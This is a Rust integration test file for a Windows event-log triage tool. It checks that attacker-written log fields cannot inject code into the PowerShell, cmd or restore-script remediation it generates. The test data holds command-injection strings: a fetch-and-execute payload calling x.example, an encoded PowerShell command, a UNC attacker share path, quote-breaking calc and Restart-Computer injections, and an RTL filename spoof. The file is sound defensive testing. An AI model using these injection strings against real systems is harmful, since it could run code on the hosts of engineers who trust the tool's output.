//! Hostile logs through the whole tool (issue 13): the KB sample with attacker-chosen text in
//! each field a finding quotes, written to .evtx by the project's writer (`evtriage-gen`'s
//! library), read and diagnosed by the binary, and printed as a table (both shells), as JSON and
//! as a restore script. Whatever the log says, no PowerShell command gains a statement, a comment
//! or an argument that is not a single-quoted literal, no cmd line holds a character off its
//! allow-list, no terminal line holds a raw control or format character, and the command a value
//! fails in is left out with a sentence that shows the value escaped.

mod support;

use assert_cmd::Command;
use evtriage::diagnosis::command::CMD_SAFE;
use evtriage::report::escape::is_unsafe_char;
use evtriage_gen::hostile::{self, Field, Size};
use evtriage_gen::samples::{Bundle, events_xml};
use serde_json::Value;
use std::path::Path;
use std::time::Duration;
use support::pwsh::{Token, literals, tokenize};

const HANG: Duration = Duration::from_secs(120);

fn write_bundle(b: &Bundle, dir: &Path) {
    for (name, events) in [("Application", &b.application), ("System", &b.system)] {
        let file = std::fs::File::create(dir.join(format!("{name}.evtx"))).unwrap();
        evtriage_writer::write_xml(&events_xml(events), std::io::BufWriter::new(file)).unwrap();
    }
}

struct Out {
    json: Value,
    table: String,
    code: i32,
}

fn run(dir: &Path) -> Out {
    let json = Command::cargo_bin("evtriage")
        .unwrap()
        .args(["--quiet", "--format", "json"])
        .arg(dir)
        .timeout(HANG)
        .output()
        .unwrap();
    let table = Command::cargo_bin("evtriage")
        .unwrap()
        .args(["--quiet", "--color", "never", "--format", "table"])
        .arg(dir)
        .timeout(HANG)
        .output()
        .unwrap();
    assert_eq!(json.status.code(), table.status.code());
    Out {
        json: serde_json::from_slice(&json.stdout).unwrap(),
        table: String::from_utf8(table.stdout).unwrap(),
        code: json.status.code().unwrap(),
    }
}

/// The checks every output of every attack passes. Returns the withheld sentences.
fn safe(out: &Out, attack: &str) -> Vec<String> {
    for (n, line) in out.table.lines().enumerate() {
        assert!(
            !line.chars().any(is_unsafe_char),
            "table line {n} holds a raw control or format character: {line:?}"
        );
    }
    let mut withheld = Vec::new();
    for f in out.json["findings"].as_array().unwrap() {
        for step in f["remediation"].as_array().unwrap() {
            for c in step["powershell"].as_array().unwrap() {
                let c = c.as_str().unwrap();
                assert!(!c.chars().any(is_unsafe_char), "{c:?}");
                let tokens = tokenize(c).unwrap();
                assert!(
                    !tokens
                        .iter()
                        .any(|t| matches!(t, Token::Separator | Token::Comment(_))),
                    "attack {attack:?} made {c:?}"
                );
                // What the attack wrote is only ever inside one literal, whole.
                for t in &tokens {
                    if let Token::Word(w) | Token::Double(w) = t {
                        assert!(
                            attack.len() < 3 || !w.contains(attack),
                            "attack {attack:?} outside a literal in {c:?}"
                        );
                    }
                }
                // Every PID is in a command that checks the process name first.
                if c.contains("Stop-Process") {
                    assert!(c.contains("Where-Object { $_.ProcessName -eq '"), "{c:?}");
                }
            }
            for c in step["cmd"].as_array().unwrap() {
                let c = c.as_str().unwrap();
                let rest = c.replace("%USERPROFILE%", "").replace("%windir%", "");
                assert!(
                    rest.chars()
                        .all(|ch| CMD_SAFE.contains(ch) || " \"=/|".contains(ch)),
                    "attack {attack:?} reached cmd: {c:?}"
                );
                if c.starts_with("taskkill") {
                    assert!(c.contains("/IM ") && c.contains("/FI \"PID eq "), "{c:?}");
                }
            }
            for w in step["withheld"].as_array().unwrap() {
                withheld.push(w.as_str().unwrap().to_string());
            }
        }
    }
    withheld
}

const ATTACKS: &[(Field, &str)] = &[
    (
        Field::LogFile,
        "C:\\Windows\\Temp\\MSI$(iwr x.example | iex).LOG",
    ),
    (Field::LogFile, "\\\\attacker\\share\\MSI1.LOG"),
    (Field::LogFile, "C:\\x.log' ; calc ; '"),
    (Field::LogFile, "C:\\x\u{2019}; calc; \u{2018}.log"),
    (Field::ProcessName, "powershell\nStop-Computer -Force"),
    (Field::ProcessName, "powershell\rcalc"),
    (Field::ProcessName, "mmc' } | Stop-Process; { '"),
    (
        Field::FilePath,
        "C:\\Program Files\\x\u{202e}llehsrewop.exe",
    ),
    (
        Field::UpdateTitle,
        "\" & powershell -enc ZQBjAGgAbwA= & rem \"",
    ),
    (
        Field::UpdateTitle,
        "Update Rollup 4\nPS> Set-Service MSExchangeIS -StartupType Disabled",
    ),
    (Field::ServiceKey, "MSExchangeIS;calc"),
    (Field::ServiceKey, "*"),
    (Field::ServiceKey, "MSExchangeIS\nStart-Process calc"),
    (Field::ServiceKey, "MSExchange&calc"),
    (Field::ServiceDisplay, "Microsoft Exchange' } ; calc ; { '"),
    (Field::Package, "Exchange2007-KB\" & calc & \".msp"),
    (Field::Package, "C:\\Temp\\Exchange x y.msp"),
    (Field::Computer, "EXMBX01;Restart-Computer"),
    (Field::Computer, "EXMBX01 EXMBX02"),
];

#[test]
fn attacks_in_each_field_never_become_code_or_reach_the_terminal_raw() {
    let dir = tempfile::tempdir().unwrap();
    for (field, attack) in ATTACKS {
        write_bundle(&hostile::with_value(*field, attack), dir.path());
        let out = run(dir.path());
        assert_eq!(
            out.code, 1,
            "{field:?} {attack:?}: the finding is still reported"
        );
        let withheld = safe(&out, attack);
        let all = serde_json::to_string(&out.json["findings"]).unwrap();
        // A value that fails its check takes its command out, and the step says so, escaped.
        match (field, *attack) {
            (Field::ServiceKey, _) => {
                assert!(
                    withheld.iter().any(|w| w.contains("service key name")),
                    "{attack:?}: {withheld:?}"
                );
                assert!(!all.contains("Get-Service -Name '*'"), "{attack:?}");
            }
            (Field::LogFile, a) if a.starts_with("\\\\") => {
                assert!(!commands(&out.json).iter().any(|c| c.contains("attacker")));
            }
            (Field::ProcessName, a) if a.contains(['\n', '\r']) => {
                assert!(
                    withheld.iter().any(|w| w.contains("process name")),
                    "{withheld:?}"
                );
                assert!(!out.table.contains("Stop-Computer\n"), "{}", out.table);
            }
            (Field::Package, _) => {
                assert!(
                    withheld.iter().any(|w| w.contains("package file name")),
                    "{withheld:?}"
                );
            }
            _ => {}
        }
        for w in &withheld {
            assert!(!w.chars().any(is_unsafe_char), "{w:?}");
        }
    }
}

fn commands(json: &Value) -> Vec<String> {
    json["findings"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|f| f["remediation"].as_array().unwrap())
        .flat_map(|s| {
            s["powershell"]
                .as_array()
                .unwrap()
                .iter()
                .chain(s["cmd"].as_array().unwrap())
        })
        .map(|c| c.as_str().unwrap().to_string())
        .collect()
}

/// The KB sample without the events that name the file in use (1025, Restart Manager): the
/// finding then sends the engineer to the installer log, whose path the attacker wrote.
fn without_file_in_use(mut b: Bundle) -> Bundle {
    b.application.retain(|e| {
        hostile::event_id(e) != Some(1025)
            && hostile::provider(e) != "Microsoft-Windows-RestartManager"
    });
    b
}

#[test]
fn a_log_path_with_code_in_it_is_one_literal_and_a_share_is_never_opened() {
    let dir = tempfile::tempdir().unwrap();
    let attack = "C:\\Windows\\Temp\\MSI$(iwr x.example | iex).LOG";
    write_bundle(
        &without_file_in_use(hostile::with_value(Field::LogFile, attack)),
        dir.path(),
    );
    let out = run(dir.path());
    safe(&out, attack);
    let cmds = commands(&out.json);
    let find = cmds
        .iter()
        .find(|c| c.contains("Get-Content -LiteralPath"))
        .unwrap_or_else(|| panic!("the installer log is searched: {cmds:#?}\n{}", out.table));
    assert!(
        literals(&tokenize(find).unwrap()).contains(&attack),
        "{find}"
    );

    let share = "\\\\attacker\\share\\MSI1.LOG";
    write_bundle(
        &without_file_in_use(hostile::with_value(Field::LogFile, share)),
        dir.path(),
    );
    let out = run(dir.path());
    let withheld = safe(&out, share);
    assert!(!commands(&out.json).iter().any(|c| c.contains("attacker")));
    assert!(
        withheld.iter().any(|w| w.contains("local drive")),
        "{withheld:?}"
    );
    assert!(
        out.table
            .contains("(withheld) PowerShell command Get-Content left out"),
        "{}",
        out.table
    );
}

#[test]
fn services_known_by_display_name_are_looked_up_quoted() {
    let dir = tempfile::tempdir().unwrap();
    let mut b = hostile::kb_bundle();
    // Windows Server 2003 and 2008 7040s: display name and start types, no key name.
    for e in b
        .system
        .iter_mut()
        .filter(|e| hostile::event_id(e) == Some(7040))
    {
        if let Some(ed) = e.children.iter_mut().find(|c| c.name == "EventData") {
            ed.children.retain(|d| d.get_attr("Name") != Some("param4"));
            // A display name evtriage's table does not know (a German server's).
            for d in &mut ed.children {
                if d.text.as_deref() == Some("Microsoft Exchange Information Store") {
                    d.text = Some("Microsoft Exchange-Informationsspeicher".into());
                }
            }
        }
    }
    write_bundle(&b, dir.path());
    let out = run(dir.path());
    safe(&out, "");
    let f = &out.json["findings"][0];
    assert_eq!(f["signature"], "exchange-rollup-file-in-use");
    let restore = f["remediation"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["id"] == "restore-start-types")
        .unwrap();
    let ps: Vec<&str> = restore["powershell"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c.as_str().unwrap())
        .collect();
    // Known display names are named by their key names (data/services/exchange.tsv)...
    assert!(
        ps.contains(&"Get-Service -Name 'MSExchangeSA' | Set-Service -StartupType Automatic"),
        "{ps:#?}"
    );
    // ...an unknown one is looked up by its display name, quoted, never guessed at.
    assert!(
        ps.contains(&"Get-Service | Where-Object { $_.DisplayName -eq 'Microsoft Exchange-Informationsspeicher' } | Set-Service -StartupType Automatic"),
        "{ps:#?}"
    );
    assert!(!ps.iter().any(|c| c.contains("MSExchangeIS'")), "{ps:#?}");
    // sc.exe takes key names only: the service known by display name alone has no cmd command.
    assert!(!restore["withheld"].as_array().unwrap().is_empty());
    assert!(
        !out.table.contains("Set-Service -Name Microsoft"),
        "{}",
        out.table
    );
}

#[test]
fn the_restore_script_is_safe_and_names_every_service() {
    let dir = tempfile::tempdir().unwrap();
    let logs = dir.path().join("logs");
    std::fs::create_dir(&logs).unwrap();
    write_bundle(
        &hostile::with_values(&[
            (Field::ServiceDisplay, "Microsoft Exchange' ; calc ; '"),
            (Field::UpdateTitle, "Rollup\r\nStop-Computer"),
        ]),
        &logs,
    );
    let script = dir.path().join("restore.ps1");
    let out = Command::cargo_bin("evtriage")
        .unwrap()
        .args(["--quiet", "--format", "json", "--script"])
        .arg(&script)
        .arg(&logs)
        .timeout(HANG)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
    let bytes = std::fs::read(&script).unwrap();
    assert!(
        bytes.starts_with(b"\xEF\xBB\xBF"),
        "UTF-8 with a BOM for PowerShell 1.0-5.1"
    );
    let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
    assert!(text.contains("$expected = 'EXMBX01'"));
    assert!(text.contains("param([switch]$WhatIf)") && text.contains("Start-Transcript"));
    assert!(
        !text.contains("Stop-Process"),
        "the script stops no process"
    );
    assert!(
        !text.contains("Get-Service"),
        "start types through WMI, for PowerShell 1.0"
    );
    for line in text.split("\r\n") {
        assert!(!line.contains('\n') && !line.contains('\r'));
        let tokens = tokenize(line).unwrap();
        if !matches!(tokens.as_slice(), [Token::Comment(_)]) {
            assert!(
                !tokens
                    .iter()
                    .any(|t| matches!(t, Token::Comment(c) if c.contains("calc"))),
                "{line}"
            );
        }
    }
    // Every service the finding says is still disabled is restored, Active Directory Topology
    // first; the dry run's WHATIF lines come from these calls.
    let services: Vec<&str> = report["findings"][0]["services"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|s| s["still_disabled"] == true)
        .map(|s| s["name"].as_str().unwrap())
        .collect();
    assert_eq!(services.len(), 14);
    let restores: Vec<&str> = text
        .split("\r\n")
        .filter(|l| l.starts_with("Restore-EvtStartType "))
        .collect();
    assert_eq!(restores.len(), 14, "{restores:#?}");
    for s in &services {
        assert!(
            restores.iter().any(|l| l.contains(&format!("'{s}'"))),
            "{s} not in {restores:#?}"
        );
    }
    assert!(
        restores[0].contains("'MSExchangeADTopology'"),
        "{}",
        restores[0]
    );
    let starts: Vec<&str> = text
        .split("\r\n")
        .filter(|l| l.starts_with("Start-EvtService "))
        .collect();
    assert!(starts[0].contains("'MSExchangeADTopology'"));
    assert!(
        !starts.iter().any(|l| l.contains("MSExchangePOP3")),
        "manual services are not started"
    );
}

#[test]
fn no_script_for_a_computer_name_that_cannot_be_one() {
    let dir = tempfile::tempdir().unwrap();
    let logs = dir.path().join("logs");
    std::fs::create_dir(&logs).unwrap();
    write_bundle(
        &hostile::with_value(Field::Computer, "EXMBX01;Restart-Computer"),
        &logs,
    );
    let script = dir.path().join("restore.ps1");
    let out = Command::cargo_bin("evtriage")
        .unwrap()
        .args(["--format", "json", "--script"])
        .arg(&script)
        .arg(&logs)
        .timeout(HANG)
        .output()
        .unwrap();
    assert!(!script.exists());
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert!(stderr.contains("not a valid computer name"), "{stderr}");
}

/// Small hostile logs are diagnosed whole, with what was cut said (`benches/compare.sh` times
/// them; the run's timeout only turns a hang into a failure).
#[test]
fn expensive_shapes_finish_and_say_what_they_left_out() {
    let dir = tempfile::tempdir().unwrap();
    for size in [
        Size::Services(4000),
        Size::LongValues(25),
        Size::Failures(5000),
    ] {
        write_bundle(&hostile::sized(size), dir.path());
        let out = run(dir.path());
        safe(&out, "");
        let f = &out.json["findings"][0];
        match size {
            Size::Services(_) => {
                assert_eq!(f["services"].as_array().unwrap().len(), 500);
                assert!(
                    f["left_out"][0]
                        .as_str()
                        .unwrap()
                        .contains("3514 more services"),
                    "{}",
                    f["left_out"]
                );
            }
            Size::Failures(_) => {
                assert!(
                    f["left_out"]
                        .as_array()
                        .unwrap()
                        .iter()
                        .any(|l| l.as_str().unwrap().contains("4801 more events")),
                    "{}",
                    f["left_out"]
                );
            }
            Size::LongValues(_) => {
                let long = f["locked_files"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .filter(|l| {
                        l["path"]
                            .as_str()
                            .is_some_and(|p| p.len() >= hostile::LONG_VALUE)
                    })
                    .count();
                assert_eq!(long, 25, "JSON keeps values whole");
                assert!(out.table.contains(" more)"), "the table cuts them");
                assert!(out.table.lines().all(|l| l.chars().count() < 1200));
            }
        }
        assert!(out.table.contains("Not listed:") || matches!(size, Size::LongValues(_)));
    }
}

fn evtriage(args: &[&std::ffi::OsStr]) -> (i32, String) {
    let out = Command::cargo_bin("evtriage")
        .unwrap()
        .args(args)
        .timeout(HANG)
        .output()
        .unwrap();
    (
        out.status.code().unwrap(),
        String::from_utf8(out.stderr).unwrap(),
    )
}

#[test]
fn output_never_replaces_a_device_or_an_input_log() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("Application.evtx");
    std::fs::copy(
        support::samples().join("kb940006-rollup-failed/Application.evtx"),
        &log,
    )
    .unwrap();
    let before = std::fs::read(&log).unwrap();
    let link = dir.path().join("report.json");
    #[cfg(unix)]
    std::os::unix::fs::symlink(&log, &link).unwrap();
    for target in [log.as_os_str(), link.as_os_str(), "/dev/null".as_ref()] {
        for option in ["--output", "--script"] {
            let (code, stderr) = evtriage(&[option.as_ref(), target, log.as_os_str()]);
            assert_eq!(code, 2, "{option} {target:?}");
            assert!(
                stderr.contains("never overwrites evidence")
                    || stderr.contains("not a regular file"),
                "{stderr}"
            );
        }
    }
    assert_eq!(
        std::fs::read(&log).unwrap(),
        before,
        "the evidence is untouched"
    );
}

#[cfg(unix)]
#[test]
fn fifos_devices_and_huge_files_are_refused_not_waited_on() {
    let dir = tempfile::tempdir().unwrap();
    let log = support::samples().join("kb940006-rollup-failed/Application.evtx");
    let fifo = dir.path().join("pipe.evtx");
    assert!(
        std::process::Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .unwrap()
            .success()
    );
    let (code, stderr) = evtriage(&[fifo.as_os_str()]);
    assert_eq!(code, 2);
    assert!(stderr.contains("not a regular file"), "{stderr}");

    let sigs = dir.path().join("signatures");
    std::fs::create_dir(&sigs).unwrap();
    std::os::unix::fs::symlink("/dev/zero", sigs.join("zero.toml")).unwrap();
    let (code, stderr) = evtriage(&["--signatures".as_ref(), sigs.as_os_str(), log.as_os_str()]);
    assert_eq!(code, 2);
    assert!(
        stderr.contains("zero.toml") && stderr.contains("not a regular file"),
        "{stderr}"
    );
    std::fs::remove_file(sigs.join("zero.toml")).unwrap();
    assert!(
        std::process::Command::new("mkfifo")
            .arg(sigs.join("pipe.toml"))
            .status()
            .unwrap()
            .success()
    );
    let (code, stderr) = evtriage(&["--signatures".as_ref(), sigs.as_os_str(), log.as_os_str()]);
    assert_eq!(code, 2);
    assert!(stderr.contains("pipe.toml"), "{stderr}");
    std::fs::remove_file(sigs.join("pipe.toml")).unwrap();
    std::fs::write(sigs.join("big.toml"), vec![b'#'; 2 << 20]).unwrap();
    let (code, stderr) = evtriage(&["--signatures".as_ref(), sigs.as_os_str(), log.as_os_str()]);
    assert_eq!(code, 2);
    assert!(
        stderr.contains("big.toml") && stderr.contains("larger than"),
        "{stderr}"
    );
}

#[test]
fn standard_input_is_limited_and_leaves_nothing_behind() {
    let out = Command::cargo_bin("evtriage")
        .unwrap()
        .args(["--stdin-limit", "1", "-"])
        .write_stdin(vec![0u8; 3 << 20])
        .timeout(HANG)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert!(
        stderr.contains("larger than 1048576 bytes (--stdin-limit)"),
        "{stderr}"
    );
    let log =
        std::fs::read(support::samples().join("kb940006-rollup-failed/Application.evtx")).unwrap();
    let out = Command::cargo_bin("evtriage")
        .unwrap()
        .args(["--format", "json", "-"])
        .write_stdin(log)
        .timeout(HANG)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(report["inputs"][0]["path"], "-");
    assert_eq!(report["inputs"][0]["status"], "complete");
}

#[test]
fn a_signature_typo_is_a_load_error_naming_file_and_line() {
    let dir = tempfile::tempdir().unwrap();
    let text =
        std::fs::read_to_string(support::root().join("signatures/restart-pending.toml")).unwrap();
    let cases = [
        (
            "Restart-Computer -Confirm",
            "Restart-Computer -ComputerName {computer} -Confirm",
            "free text",
        ),
        (
            "Restart-Computer -Confirm",
            "Restart-Computer -ComputerName {computr}",
            "unknown placeholder {computr}",
        ),
        (
            "Restart-Computer -Confirm",
            "Write-Host \\\"{kb}\\\"",
            "outside quotes",
        ),
        (
            "when = \"!resolved\"",
            "when = \"!resolvd\"",
            "'resolvd' is not a flag",
        ),
    ];
    for (from, to, says) in cases {
        assert!(text.contains(from));
        let file = dir.path().join("restart-pending.toml");
        std::fs::write(&file, text.replacen(from, to, 1)).unwrap();
        let line = text
            .lines()
            .position(|l| l.contains("id = \"restart\""))
            .unwrap()
            + 1;
        let log = support::samples().join("healthy/Application.evtx");
        let (code, stderr) = evtriage(&[
            "--signatures".as_ref(),
            dir.path().as_os_str(),
            log.as_os_str(),
        ]);
        assert_eq!(code, 2, "{to}");
        assert!(
            stderr.contains("restart-pending.toml") && stderr.contains(&format!("line {line}:")),
            "{stderr}"
        );
        assert!(stderr.contains(says), "{to}: {stderr}");
    }
}
